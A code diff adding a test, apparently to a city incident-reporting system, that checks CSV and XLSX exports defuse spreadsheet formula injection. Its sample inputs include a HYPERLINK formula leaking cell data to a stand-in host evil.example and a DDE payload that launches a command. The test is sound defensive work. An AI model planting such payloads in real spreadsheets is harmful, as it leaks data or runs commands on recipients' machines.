@@ -126,6 +126,41 @@ describe('export over HTTP and by the CLI', () => {
     expect((await download(`/export/secrets.csv?from=${from}&to=${to}`, chief)).status).toBe(400);
   });
 
+  it('neutralises text a spreadsheet would run as a formula, in CSV and XLSX, and leaves other values alone', async () => {
+    const attacks = ['=HYPERLINK("http://evil.example/?x="&A1,"点我查看")', '+1+2 井盖', '-3+4 路灯', '@SUM(1,2) 垃圾', '=cmd|\' /C calc\'!A0'];
+    const plain = '路灯-坏了 =不是公式';
+    const codes = new Map<string, string>();
+    for (const d of [...attacks, plain]) codes.set((await gqlOk<Op.ReportIncidentMutation>(t.hub, ADMIN, REPORT_INCIDENT, { input: { grid: 'XHG-B04-C08-M01', description: d } })).reportIncident.code, d);
+    const { from, to } = days();
+    for (const format of ['csv', 'xlsx']) {
+      const got = await download(`/export/incidents.${format}?from=${from}&to=${to}&scope=XHG-B04-C08-M01`, ADMIN);
+      expect(got.status).toBe(200);
+      const mine = (await readTable(got.file)).rows.filter((r) => codes.has(r.cells['code']!));
+      expect(mine).toHaveLength(codes.size);
+      for (const row of mine) {
+        const stored = codes.get(row.cells['code']!)!;
+        expect(row.cells['description']).toBe(stored === plain ? plain : `'${stored}`);
+        expect(row.cells['urgent']).toBe('false');
+      }
+      if (format === 'csv') {
+        // No field of the raw file starts a formula, quoted or not.
+        expect(readFileSync(got.file, 'utf8')).not.toMatch(/(^|,)"?[=+\-@]/m);
+      } else {
+        const book = new ExcelJS.Workbook();
+        await book.xlsx.readFile(got.file);
+        const sheet = book.worksheets[0]!;
+        const col = (sheet.getRow(1).values as unknown[]).indexOf('description');
+        const urgentCol = (sheet.getRow(1).values as unknown[]).indexOf('urgent');
+        sheet.eachRow((row, n) => {
+          if (n === 1) return;
+          expect(row.getCell(col).type).toBe(ExcelJS.ValueType.String);
+          // Booleans (and numbers) are written as the values they are, not as text.
+          expect(row.getCell(urgentCol).type).toBe(ExcelJS.ValueType.Boolean);
+        });
+      }
+    }
+  });
+
   it('writes receipts and clearance tables (headers even when empty) with gridhub export', async () => {
     const { from, to } = days();
     for (const what of ['receipts', 'clearance']) {
